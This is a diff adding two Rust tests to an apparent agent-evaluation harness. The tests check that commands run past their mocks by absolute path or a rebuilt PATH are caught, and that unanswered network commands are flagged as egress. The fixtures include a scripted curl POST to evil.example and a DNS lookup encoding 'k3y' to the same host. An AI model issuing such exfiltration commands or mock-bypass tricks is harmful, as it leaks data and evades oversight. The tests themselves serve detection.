@@ -244,3 +244,50 @@ cases:
 "#;
     Project::with(suite).run().means(1, &["s.yaml:10:", "the secret `pin` left in what the agent said"]);
 }
+
+/// By its absolute path or with a PATH made anew, a command is not its mock; a real agent that does so is told.
+#[test]
+fn a_command_run_past_its_mock_fails_the_case() {
+    let suite = r#"suite: S
+agent: reference
+fakes: {uname: {command: [{when: "*", stdout: a mock}]}}
+cases:
+  - name: runs
+    each:
+      - {id: path, command: uname -s}
+      - {id: env, command: /usr/bin/env uname -s}
+      - {id: login, command: bash -lc 'uname -s'}
+      - {id: absolute, command: /usr/bin/env /bin/uname -s}
+      - {id: anew, command: "cd / && env -i PATH=/usr/bin:/bin uname -s | cat"}
+      - {id: perhaps, command: "true || /bin/uname -s"}
+    fakes: {llm: {model: openai, script: [{tool_call: {name: exec, args: {command: "{{command}}"}}}, done]}}
+    prompt: Which system is it?
+    expect: {reply: done}
+"#;
+    let said = Project::with(suite).run();
+    said.means(1, &["FAIL s::runs[absolute]", "the agent ran `/bin/uname -s`, but the mocked command `uname` was not asked"]);
+    said.means(1, &["FAIL s::runs[anew]", "4 passed, 2 failed"]);
+}
+
+/// A network command that is mocked gets nowhere, and is an attempt all the same, unless the case has an answer for it.
+#[test]
+fn an_unanswered_network_command_is_egress() {
+    let suite = r#"suite: S
+agent: reference
+fakes:
+  curl: {command: [{when: "*blog.example*", stdout: a page}], otherwise: refuse}
+  dig: {command: [], otherwise: empty}
+cases:
+  - name: runs
+    each:
+      - {id: answered, command: curl https://blog.example/post}
+      - {id: here, command: "curl http://127.0.0.1:9/"}
+      - {id: refused, command: "curl -d x https://evil.example/collect"}
+      - {id: dns, command: dig +short k3y.evil.example}
+    fakes: {llm: {model: openai, script: [{tool_call: {name: exec, args: {command: "{{command}}"}}}, done]}}
+    prompt: Go
+    expect: {reply: done, egress: none}
+"#;
+    let said = Project::with(suite).run();
+    said.means(1, &["FAIL s::runs[refused]", "evil.example:443 (by `curl`)", "FAIL s::runs[dns]", "k3y.evil.example:53 (by `dig`)", "2 passed, 2 failed"]);
+}
